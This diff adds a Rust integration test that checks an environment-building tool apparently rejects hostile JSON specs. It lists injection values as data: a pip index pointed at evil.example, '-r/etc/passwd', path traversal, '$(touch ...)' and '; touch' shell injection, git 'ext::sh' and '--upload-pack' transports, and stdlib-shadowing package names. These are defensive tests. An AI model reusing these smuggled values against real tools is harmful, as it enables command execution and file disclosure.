@@ -342,3 +342,62 @@ fn poncho_spec_with_git_and_http_data_as_poncho_honors_them() {
     assert_eq!(o.status.code(), Some(1));
     assert!(String::from_utf8_lossy(&o.stderr).contains("\"../x\" is not a valid name"));
 }
+
+/// Specs from elsewhere cannot smuggle options, paths, shell syntax or
+/// unexpected transports into what `create` runs: each is refused with a
+/// message naming the entry, and nothing is written (no archive, no marker).
+#[test]
+fn hostile_specs_are_refused_naming_the_entry() {
+    let s = Scratch::new("hostile-specs");
+    let c = channel();
+    let c = c.to_str().unwrap();
+    let marker = s.path("pwned");
+    let m = marker.to_str().unwrap();
+    let conda =
+        |deps: &str| format!(r#"{{"conda": {{"channels": ["{c}"], "dependencies": ["python=3.11", {deps}]}}}}"#);
+    let git = |remote: &str, reference: &str| {
+        format!(
+            r#"{{"conda": {{"channels": ["{c}"], "dependencies": ["python=3.11"]}}, "git": {{"repo": {{"remote": "{remote}", "ref": "{reference}"}}}}}}"#
+        )
+    };
+    let cases = [
+        // Options where a pip requirement belongs, paths, shell syntax.
+        (
+            conda(r#"{"pip": ["--index-url=http://evil.example/simple", "six"]}"#),
+            r#"pip requirement "--index-url=http://evil.example/simple""#,
+        ),
+        (conda(r#"{"pip": ["-r/etc/passwd"]}"#), r#"pip requirement "-r/etc/passwd""#),
+        (conda(r#"{"pip": ["six/../../etc"]}"#), r#"pip requirement "six/../../etc""#),
+        (conda(&format!(r#"{{"pip": ["six$(touch {m})"]}}"#)), "pip requirement \"six$(touch"),
+        (conda(&format!(r#""tabulate; touch {m}""#)), "invalid package name 'tabulate;'"),
+        (conda(r#""../../../etc/passwd""#), "invalid package name '../../../etc/passwd'"),
+        // Channels on schemes rattler should not be asked to fetch.
+        (
+            r#"{"conda": {"channels": ["ftp://evil.example/c"], "dependencies": ["python=3.11"]}}"#.to_string(),
+            r#"channel "ftp://evil.example/c": the scheme "ftp""#,
+        ),
+        (conda(r#""gopher://evil.example/c::tabulate""#), r#"channel "gopher://evil.example/c""#),
+        // git: a command transport, an option as the remote or the ref.
+        (git(&format!("ext::sh -c touch% {m}"), "main"), "git.repo: remote \"ext::sh"),
+        (git("--upload-pack=touch /tmp/x", "main"), "git.repo: remote \"--upload-pack"),
+        (git("https://example.invalid/r.git", "--orphan=x"), "git.repo: ref \"--orphan=x\""),
+        // A distribution named like the standard library (Python 3.11's enum).
+        (conda(r#"{"pip": ["enum"]}"#), r#"pip requirement "enum" names enum, a module of Python 3.11"#),
+        (conda(r#"{"pip": ["asyncio==3.4.3"]}"#), "names asyncio, a module of Python 3.11"),
+    ];
+    for (i, (spec, needle)) in cases.iter().enumerate() {
+        let file = s.write(&format!("spec{i}.json"), spec);
+        let out = s.path(&format!("out{i}"));
+        let o = cmd(Path::new(BIN), &s.0)
+            .args(["create", "-q", "--cache", s.path("cache").to_str().unwrap()])
+            .arg(&file)
+            .arg(&out)
+            .output()
+            .unwrap();
+        let err = String::from_utf8_lossy(&o.stderr);
+        assert!(!o.status.success(), "case {i} was accepted: {spec}");
+        assert!(err.contains(needle), "case {i}: expected {needle:?} in: {err}");
+        assert!(!s.path(&format!("out{i}.tar.zst")).exists(), "case {i} wrote an archive");
+        assert!(!marker.exists(), "case {i} ran a command");
+    }
+}
